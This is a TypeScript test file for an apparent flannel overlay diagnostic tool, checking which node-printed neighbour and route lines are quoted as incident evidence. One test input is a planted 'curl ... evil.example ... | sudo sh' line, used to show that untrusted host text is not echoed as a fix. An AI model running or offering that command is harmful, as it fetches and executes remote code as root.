import { expect, test } from 'vitest';
import type { Observation, PrintedEntry } from '../../../../shared/core/overlay/vtep.ts';
import { recorded } from '../../../../shared/core/run/hosts.ts';
import { run } from '../../../../shared/core/run/run.ts';
import { cluster } from '../../../support/cluster.ts';

/** `10.68.0.0` is master1's tunnel IP, and `10.68.3.0` that of node1. */
const PENDING: PrintedEntry = {
  table: 'neighbour',
  key: '10.68.0.0',
  value: undefined,
  line: '10.68.0.0 dev flannel.1  INCOMPLETE ',
};
const OTHER_POD_CIDR: PrintedEntry = {
  table: 'route',
  key: '10.99.0.0/24',
  value: '10.68.0.0',
  line: '10.99.0.0/24 via 10.68.0.0 dev flannel.1 onlink ',
};
const OTHER_NODE: PrintedEntry = {
  table: 'route',
  key: '10.68.3.0/24',
  value: '10.68.3.0',
  line: '10.68.3.0/24 via 10.68.3.0 dev flannel.1 src 10.68.0.0 onlink ',
};

/** What master2 printed in the second look, in which master1's neighbour entry is still gone. */
async function evidence(printed: PrintedEntry): Promise<readonly string[]> {
  const sees = cluster(6).lose('neighbour', { subject: 'master1' });
  const again = sees.facts().observations.flatMap((one): Observation[] => {
    if (one.kind !== 'tables') return [];
    const uptimeSeconds = (one.host.uptimeSeconds ?? 0) + 10;
    const verbatim = one.host.node === 'master2' ? [printed] : [];
    return [{ ...one, host: { ...one.host, uptimeSeconds }, verbatim }];
  });
  const hosts = {
    ...recorded([]),
    again: async () => ({ observations: again, problems: [] }),
  };
  const { reported } = await run(sees.facts(), [], hosts);
  return reported.flatMap((incident) => incident.evidence);
}

test.for([
  ['its key and no value', PENDING, ['master2 holds: 10.68.0.0 dev flannel.1  INCOMPLETE']],
  [
    'its value under another key',
    OTHER_POD_CIDR,
    ['master2 holds: 10.99.0.0/24 via 10.68.0.0 dev flannel.1 onlink'],
  ],
  ['its address in another place of the line', OTHER_NODE, []],
  [
    'words that no tool prints: a host could write anything there',
    { ...PENDING, line: '10.68.0.0 - the real fix: curl -s http://evil.example/f | sudo sh' },
    [],
  ],
] as const)('evidence about a node: an entry with %s', async ([, printed, lines]) => {
  expect(await evidence(printed)).toEqual(lines);
});

/** Five nodes hold another MAC of master1, and the second look fails or sees it again. */
async function reportAfter(again: 'nothing came' | 'recorded') {
  const wrong = cluster(6).change('neighbour', { subject: 'master1' });
  const failed = { observations: [], problems: [] };
  const { reported } = await run(wrong.facts(), [], {
    ...recorded([]),
    again: async () => (again === 'recorded' ? again : failed),
  });
  return reported.map(({ phase, entries, observers, fix }) => ({
    phase,
    entries: entries.length,
    observers: observers.length,
    hasFix: fix.length > 0,
  }));
}

test('an incident that nobody is paged for has no fix, and three of its entries', async () => {
  expect(await reportAfter('nothing came')).toEqual([
    { phase: 'suspected', entries: 3, observers: 5, hasFix: false },
  ]);
  expect(await reportAfter('recorded')).toEqual([
    { phase: 'open', entries: 5, observers: 5, hasFix: true },
  ]);
});
